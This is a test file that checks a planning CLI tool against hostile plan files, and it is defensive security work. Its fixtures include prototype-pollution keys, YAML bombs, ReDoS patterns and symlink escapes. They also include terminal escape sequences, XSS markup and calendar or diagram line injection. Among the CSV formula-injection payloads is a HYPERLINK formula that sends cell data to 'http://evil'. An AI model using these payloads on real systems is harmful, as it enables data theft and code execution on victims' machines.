import { spawnSync } from 'node:child_process';
import { readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { utils, write } from '@e965/xlsx';
import { unzipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { folderWith, type Ran, run } from '../support/run.ts';

// What somebody may put into a plan to harm who reads it, or the machine that checks it. The list of promises with their
// tests is in docs/hardness.md.

const program = join(import.meta.dirname, '../../bin/plan.js');

type Files = Readonly<Record<string, string>>;

/** Every call that prints a text out of a plan `plan.yaml` with a person `an`. */
const printing: readonly (readonly string[])[] = [
  ...['terminal', 'concise', 'github', 'gitlab', 'sarif', 'junit', 'checkstyle', 'rdjson', 'markdown', 'json'].map(
    (format) => ['validate', '--format', format],
  ),
  ...['terminal', 'csv', 'json'].map((format) => ['expand', '--format', format]),
  ...['terminal', 'markdown', 'html', 'json'].map((format) => ['audit', '--format', format]),
  ...['terminal', 'markdown', 'csv', 'html'].flatMap((format) =>
    ['agency', 'unit', 'person', 'load'].map((by) => ['table', '--by', by, '--format', format]),
  ),
  ...['ics', 'mspdi', 'mermaid', 'taskjuggler'].map((format) => ['export', format]),
  ['why', 'an', '2026-06'],
  ['config', '--format', 'json'],
  ['derive', '--period', '2026-Q2', 'plan.yaml'],
  ['fmt', '--diff'],
];

async function call(files: Files, ...words: string[]): Promise<Ran> {
  const ran = await run([...words, '--today', '2026-11-23'], { cwd: folderWith(files), columns: 100 });
  expect([0, 1, 2], ran.stderr).toContain(ran.code);
  expect(ran.stderr).not.toMatch(/fault of plan|lỗi của plan|\n\s+at /);
  return ran;
}

/** Without what Markdown shows as code, where markup is text. */
const withoutCode = (text: string): string => text.replaceAll(/`[^`\n]*`/g, '');

const planOf = (title: string, more = ''): string => `title: ${title}
period: 2026
unit: u
units: [{ id: u, name: ${title}, head: an }]
people: [{ id: an, name: ${title}, unit: u, title: ${title} }]
objectives: [{ id: M1, title: ${title} }]
tasks:
  - id: T1
    title: ${title}
    objective: M1
    lead: an
    deliverable: ${title}
    note: ${title}
    source: ${title}
    due: 2026-06-25
    effort: 2d
${more}`;

describe('keys and ids that objects have by nature', () => {
  const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'];

  test.each(names)('reports the key `%s` wherever it stands', async (name) => {
    for (const text of [
      `${name}: 1\n${planOf('Plan')}`,
      planOf('Plan', `    ${name}: { polluted: true }\n`),
      planOf('Plan', `    authority: { ${name}: x }\n`),
      planOf('Plan').replace('head: an', `head: an, ${name}: 1`),
    ]) {
      const { stdout } = await call({ 'plan.yaml': text }, 'validate', '--format', 'concise', '--only', 'unknown-key');
      expect(stdout).toContain(`\`${name}\``);
    }
    expect(Object.keys(Object.prototype)).toEqual([]);
  });

  test.each(names)('takes `%s` as the id that it is, in every command', async (name) => {
    const text = planOf('Plan', `    extra: { ${name}: giá trị }\n    support: [${name}]\n    after: [${name}]\n`)
      .replace('people: [', `groups: [{ id: g, name: G, members: [${name}] }]\npeople: [{ id: ${name}, name: Bình }, `)
      .concat(
        `  - { id: ${name}, title: Nghiệm thu quy trình, lead: ${name}, when: 2026-06, effort: { ${name}: 1d } }\n`,
      );
    for (const words of printing) expect((await call({ 'plan.yaml': text }, ...words)).code).not.toBe(2);
    const { stdout } = await call({ 'plan.yaml': text }, 'why', name, '2026-06');
    expect(stdout).toContain(`${name}`);
    const checked = await call({ 'plan.yaml': text }, 'validate', '--format', 'concise', '--only', 'unknown-reference');
    expect(checked.stdout).toBe('');
  });

  test.each(names)('reports a rule, a list of words and a reference named `%s`', async (name) => {
    const config = `rules: { ${name}: off }\nwords: { ${name}: { add: [x] } }\n`;
    const { code, stdout, stderr } = await call(
      { 'plan.yaml': planOf('Plan'), 'plan.config.yaml': config },
      'validate',
    );
    expect(code).not.toBe(0);
    expect(stdout + stderr).toContain(name);
    const missing = planOf('Plan').replace('lead: an', `lead: ${name}`);
    expect((await call({ 'plan.yaml': missing }, 'validate', '--only', 'unknown-reference')).code).toBe(1);
  });
});

test.each<[string, string, RegExp]>([
  ['of anchors that hold themselves', 'title: Plan\nperiod: 2026\ntasks: &a [*a, *a]\n', /invalid-plan .*`\*a`/],
  [
    'of merged keys',
    `title: Plan\nperiod: 2026\ntasks: []\na: &a { x: 1 }\n${Array.from(
      { length: 30 },
      (_, i) =>
        `b${i}: &b${i} { <<: [${Array(9)
          .fill(i === 0 ? '*a' : `*b${i - 1}`)
          .join(', ')}] }`,
    ).join('\n')}\n`,
    /unknown-key `a`/,
  ],
  [
    'of the same long text again and again',
    `title: &t ${'x'.repeat(100_000)}\nperiod: 2026\ntasks: [${Array(2000).fill('{ title: *t }').join(', ')}]\n`,
    /invalid-plan .*1,000,000/,
  ],
])('survives a bomb %s', { timeout: 60_000 }, async (_, text, said) => {
  const { code, stdout } = await call({ 'plan.yaml': text }, 'validate', '--format', 'concise');
  expect(code).toBe(1);
  expect(stdout).toMatch(said);
  expect(stdout.length).toBeLessThan(10_000);
});

describe('patterns and words of a configuration', () => {
  test.each(['(a+)+$', 'a*a*a*a*a*b', '(?:a|a)*$', '[[[', '\\\\'])('are text and take no time: %s', async (word) => {
    const config = `words: { vague: { add: ['${word}', '${'a'.repeat(200)}!'], remove: ['${word}'] } }\n`;
    const start = performance.now();
    await call({ 'plan.yaml': planOf(`${'a'.repeat(50_000)}!`), 'plan.config.yaml': config }, 'validate');
    expect(performance.now() - start).toBeLessThan(10_000);
  });

  test('never lead out of the root, nor do links', async () => {
    const elsewhere = folderWith({ 'secret.plan.yaml': planOf('Secret') });
    const cwd = folderWith({
      'plan.config.yaml': `include: ['**/*.plan.yaml', '../**/*.plan.yaml', '${elsewhere}/*.plan.yaml']\n`,
      'a.plan.yaml': planOf('Plan'),
    });
    symlinkSync(elsewhere, join(cwd, 'linked'));
    symlinkSync(join(elsewhere, 'secret.plan.yaml'), join(cwd, 'b.plan.yaml'));
    const { stdout, stderr } = await run(['expand', '--format', 'json'], { cwd });
    expect(stdout + stderr).not.toContain('Secret');
    for (const words of [[], ['.']]) {
      const { code, stdout: found } = await run(['validate', '--format', 'concise', ...words], { cwd });
      expect(code).toBe(1);
      expect(found).toContain('b.plan.yaml:1:1: error unreadable-file');
    }
    // Who names the link means what it leads to.
    const named = await run(['validate', 'b.plan.yaml', '--only', 'unreadable-file'], { cwd });
    expect(named).toMatchObject({ code: 0 });
  });

  test.each(['organisation: ', 'parent: ', 'calendar: { file: ', 'organisation: ./sub/'])(
    'nor does a link that a plan names by `%s`',
    async (key) => {
      const elsewhere = folderWith({ 'out.yaml': 'name: Secret\n', 'sub/out.yaml': 'name: Secret\n' });
      const cwd = folderWith({ 'plan.yaml': `${key}out.yaml${key.includes('{') ? ' }' : ''}\n${planOf('Plan')}` });
      symlinkSync(join(elsewhere, 'out.yaml'), join(cwd, 'out.yaml'));
      symlinkSync(join(elsewhere, 'sub'), join(cwd, 'sub'));
      const { code, stdout } = await run(['validate', '--format', 'concise', '--only', 'unreadable-file'], { cwd });
      expect(code).toBe(1);
      expect(stdout).toContain('unreadable-file');
      expect(stdout).not.toContain('Secret');
    },
  );
});

describe('texts made to harm who looks at them', () => {
  const escapes = '"\\e]0;owned\\a\\e[2J\\u202Eevil\\u2066 \\u009b31m \\u0007 Rà soát\\u200B quy trình"';

  test.each(printing.map((words) => words.join(' ')))('shows no control to a terminal: %s', async (words) => {
    const { stdout, stderr } = await call({ 'plan.yaml': planOf(escapes) }, ...words.split(' '));
    if (/^(?:expand|audit|table|export|derive)/.test(words))
      expect(stdout).toContain(/load|terminal/.test(words) ? 'owned' : 'evil');
    expect(stdout + stderr).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
    // JSON is data, and holds the text as it is; what shows it has to show it harmless.
    if (!/json|sarif/.test(words)) expect(stdout + stderr).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  });

  test.each(['xlsx', 'docx'])('nor to who opens a document: %s', async (format) => {
    const cwd = folderWith({ 'plan.yaml': planOf(escapes) });
    expect((await run(['table', '--format', format, '-o', `out.${format}`], { cwd })).code).toBe(0);
    for (const bytes of Object.values(unzipSync(readFileSync(join(cwd, `out.${format}`)))))
      expect(Buffer.from(bytes).toString('utf8')).not.toMatch(/[\u0007\u001b\u009b\u202e\u2066]|owned.*\\e/);
  });

  const formula = `'=HYPERLINK("http://evil/?"&A1,"Rà soát") quy trình'`;
  test.each([
    [formula, /(?:^|,)"?=HYPERLINK/m],
    [`'+1+cmd|" /C calc"!A0'`, /(?:^|,)"?\+1/m],
    [`'-2+3+cmd|" /C calc"!A0'`, /(?:^|,)"?-2/m],
    [`'@SUM(1+1)*cmd'`, /(?:^|,)"?@SUM/m],
    ['"\\t=1+1 quy trình"', /(?:^|,)"?\s*=1/m],
  ])('keeps %s text in every CSV', async (title, live) => {
    for (const words of [
      'expand --format csv',
      'table --format csv',
      'table --by person --format csv',
      'table --by load --format csv',
    ])
      expect((await call({ 'plan.yaml': planOf(title) }, ...words.split(' '))).stdout).not.toMatch(live);
  });

  test('writes no formula into a workbook', async () => {
    const cwd = folderWith({ 'plan.yaml': planOf(formula) });
    for (const by of ['agency', 'person', 'load']) {
      expect((await run(['table', '--by', by, '--format', 'xlsx', '-o', `${by}.xlsx`], { cwd })).code).toBe(0);
      const parts = unzipSync(readFileSync(join(cwd, `${by}.xlsx`)));
      for (const [name, bytes] of Object.entries(parts))
        if (name.includes('/worksheets/'))
          expect(Buffer.from(bytes).toString('utf8')).not.toMatch(/<f[ >][^<]*HYPERLINK/);
    }
  });

  const markup = `'<script>alert(1)</script><img src=x onerror=alert(1)> "><b onmouseover=x> ]]> &lt;'`;
  test('writes no markup of theirs into HTML, Markdown and XML', async () => {
    for (const words of [
      'audit --format html',
      'table --format html',
      'table --by person --format html',
      'audit --format markdown',
      'table --format markdown',
      'validate --format markdown',
      'validate --format junit',
      'validate --format checkstyle',
      'export mspdi',
    ]) {
      const { stdout } = await call({ 'plan.yaml': planOf(markup) }, ...words.split(' '));
      expect(withoutCode(stdout), words).not.toMatch(/(?<!\\)<(?:script|img|b onmouseover)/);
    }
    const before = planOf('Plan');
    const cwd = folderWith({ 'a.plan.yaml': before, 'b.plan.yaml': planOf(markup) });
    for (const format of ['html', 'markdown']) {
      const { stdout, code } = await run(['diff', 'a.plan.yaml', 'b.plan.yaml', '--format', format], { cwd });
      expect(code).toBe(0);
      expect(withoutCode(stdout), format).not.toMatch(/(?<!\\)<(?:script|img|b onmouseover)/);
    }
  });

  test('lets no text end a line, an entry or a statement of a calendar or a project', async () => {
    const title = '"Rà soát\\r\\nEND:VEVENT\\r\\nBEGIN:VALARM\\n} task evil {\\nclick x call alert() \\"%%{init}%%"';
    const plan = { 'plan.yaml': planOf(title) };
    const ics = (await call(plan, 'export', 'ics')).stdout;
    expect(ics).not.toMatch(/^BEGIN:VALARM/m);
    expect(ics.match(/^END:VEVENT/gm)?.length).toBe(ics.match(/^BEGIN:VEVENT/gm)?.length);
    expect((await call(plan, 'export', 'taskjuggler')).stdout).not.toMatch(/^\s*\}? ?task evil/m);
    expect((await call(plan, 'export', 'mermaid')).stdout).not.toMatch(/^\s*click|^\s*%%\{init/m);
    expect((await call(plan, 'validate', '--format', 'github')).stdout).not.toMatch(/^(?:END|BEGIN|\} task)/m);
  });
});

test('lets no library speak, whatever a workbook holds', () => {
  const book = utils.book_new();
  utils.book_append_sheet(
    book,
    utils.aoa_to_sheet([
      ['STT', 'Nội dung', 'Chủ trì'],
      [1, 'Rà soát quy trình kiểm định', 'An'],
    ]),
    'A',
  );
  const bytes = Buffer.from(write(book, { type: 'buffer', bookType: 'biff8' }) as Uint8Array);
  // A record that says how far the sheet reaches becomes one that nobody knows.
  bytes[bytes.indexOf(Buffer.from([0x00, 0x02, 0x0e, 0x00])) + 1] = 0x20;
  const cwd = folderWith({ 'a.xls': bytes });
  const words = ['import', 'a.xls', '--period', '2026', '--lang', 'en'];
  const { status, stdout, stderr } = spawnSync(process.execPath, [program, ...words], { cwd, encoding: 'utf8' });
  expect({ status, stderr }).toEqual({ status: 0, stderr: '' });
  expect(stdout).toContain('1 task');
});

describe('numbers and dates without measure', () => {
  test.each([
    ['effort: 2d', 'effort: 1e308d'],
    ['effort: 2d', 'effort: 99999999999999999999d'],
    ['effort: 2d', 'effort: { an: 9e99d }'],
    ['effort: 2d', 'measures: [{ target: 1e308, unit: việc }, { target: 99999999999999999999999, unit: việc }]'],
    ['effort: 2d', 'steps: [{ title: Một, due: 99999-01-01 }, { title: Hai, due: -0001-01-01 }]'],
    ['effort: 2d', 'effort: 2d\n    split: { lead: 1e308, support: 1e308 }'],
    ['due: 2026-06-25', 'due: { from: issued, days: 1e308 }'],
    ['due: 2026-06-25', 'due: { from: T1, workdays: 99999999999 }'],
    ['due: 2026-06-25', 'repeat: { rrule: "FREQ=DAILY;INTERVAL=99999999999999999999" }'],
    ['due: 2026-06-25', 'repeat: { rrule: "FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30" }'],
    ['due: 2026-06-25', 'when: 0001-01-01/9999-12-31'],
    ['unit: u }]', 'unit: u, capacity: 1e308%, hours: 1e308 }]'],
    ['head: an', 'head: an, order: 1e308'],
  ])('survives %s as %s in every command', async (from, to) => {
    const text = planOf('Rà soát quy trình').replace(from, to);
    for (const words of printing) {
      const { stdout } = await call({ 'plan.yaml': text }, ...words);
      expect(stdout).not.toMatch(/\bNaN\b|\bInfinity\b|undefined/);
    }
  });

  test.each(['0001', '9999', '0001-01', '9999-12', '0001-01-01/0003-12-31', '9998-01/9999-12'])(
    'takes the period %s in every command',
    async (period) => {
      const text = planOf('Rà soát quy trình', '    steps: [{ title: Một }]\n')
        .replace('period: 2026', `period: ${period}`)
        .replace('due: 2026-06-25', `when: ${period}`)
        .concat(
          '  - { id: T2, title: Báo cáo tháng, lead: an, repeat: month }\n  - { id: T3, title: Báo cáo sau, lead: an, due: { from: T1, workdays: 10 } }\n  - { id: T4, title: Báo cáo tuần, lead: an, repeat: { every: week, due: +5 } }\n',
        );
      for (const words of printing) {
        const { stdout } = await call({ 'plan.yaml': text }, ...words);
        expect(stdout).not.toMatch(/\bNaN\b|\bInfinity\b|undefined/);
      }
    },
  );

  test.each(['0001-01-01', '9999-12-31'])('takes %s for today', async (today) => {
    const cwd = folderWith({ 'plan.yaml': planOf('Rà soát quy trình') });
    for (const words of printing) {
      const { code, stderr } = await run([...words, '--today', today], { cwd });
      expect([0, 1], stderr).toContain(code);
    }
  });
});

describe('many of one kind', () => {
  const seconds = 60;

  test('10,000 people, of whom each leads a task', { timeout: 240_000 }, async () => {
    const all = Array.from({ length: 10_000 }, (_, i) => i);
    const text = `title: Plan\nperiod: 2026\nunit: u\nunits: [{ id: u, name: Phòng, head: p0 }]\npeople:\n${all
      .map((i) => `  - { id: p${i}, name: Người ${i}, unit: u }\n`)
      .join('')}tasks:\n${all
      .map(
        (i) =>
          `  - { id: T${i}, title: Lập hồ sơ kiểm định số ${i}, lead: p${i}, due: 2026-06-25, effort: 2d, deliverable: Hồ sơ kiểm định số ${i} }\n`,
      )
      .join('')}`;
    for (const words of [
      'validate --format concise',
      'expand --format csv',
      'audit --format json',
      'table --by load --format csv',
    ]) {
      const start = performance.now();
      const { code } = await call({ 'plan.yaml': text }, ...words.split(' '));
      expect(code).toBe(0);
      expect(performance.now() - start, words).toBeLessThan(seconds * 1000);
    }
  });

  test('10,000 people who all support each task', { timeout: 240_000 }, async () => {
    const all = Array.from({ length: 10_000 }, (_, i) => i);
    const text = `title: Plan\nperiod: 2026\nunit: u\nunits: [{ id: u, name: Phòng, head: p0 }]\npeople:\n${all
      .map((i) => `  - { id: p${i}, name: Người ${i}, unit: u }\n`)
      .join('')}groups:\n  - { id: g, name: Tổ, members: [${all.map((i) => `p${i}`).join(', ')}] }\ntasks:\n${all
      .slice(0, 40)
      .map(
        (i) =>
          `  - { id: T${i}, title: Ban hành quy chế số ${i}, lead: p0, support: [g], when: 2026-0${(i % 9) + 1}, effort: 1999d, deliverable: Quy chế số ${i} }\n`,
      )
      .join('')}`;
    for (const words of [
      'validate --format concise',
      'expand --spread level --format csv',
      'table --by load --format csv',
    ]) {
      const start = performance.now();
      const { code } = await call({ 'plan.yaml': text }, ...words.split(' '));
      expect(code).toBe(0);
      expect(performance.now() - start, words).toBeLessThan(seconds * 1000);
    }
  });

  test('1,000 tasks of one person in one month', { timeout: 240_000 }, async () => {
    const text = planOf('Plan').replace(
      /tasks:[\s\S]*/,
      `tasks:\n${Array.from({ length: 1000 }, (_, i) => `  - { id: T${i}, title: Lập hồ sơ kiểm định số ${i}, lead: an, when: 2026-06, due: 2026-06-${String((i % 28) + 1).padStart(2, '0')}, effort: 1d, deliverable: Hồ sơ số ${i} }\n`).join('')}`,
    );
    for (const words of [
      'validate --format json',
      'expand --spread level --format csv',
      'audit',
      'table --by person --format html',
      'why an 2026-06',
      'why an 2026-06 --spread level',
      'export taskjuggler --spread level',
      'export ics',
    ]) {
      const start = performance.now();
      const { stdout } = await call({ 'plan.yaml': text }, ...words.split(' '));
      expect(stdout).not.toBe('');
      expect(performance.now() - start, words).toBeLessThan(seconds * 1000);
    }
  });
});
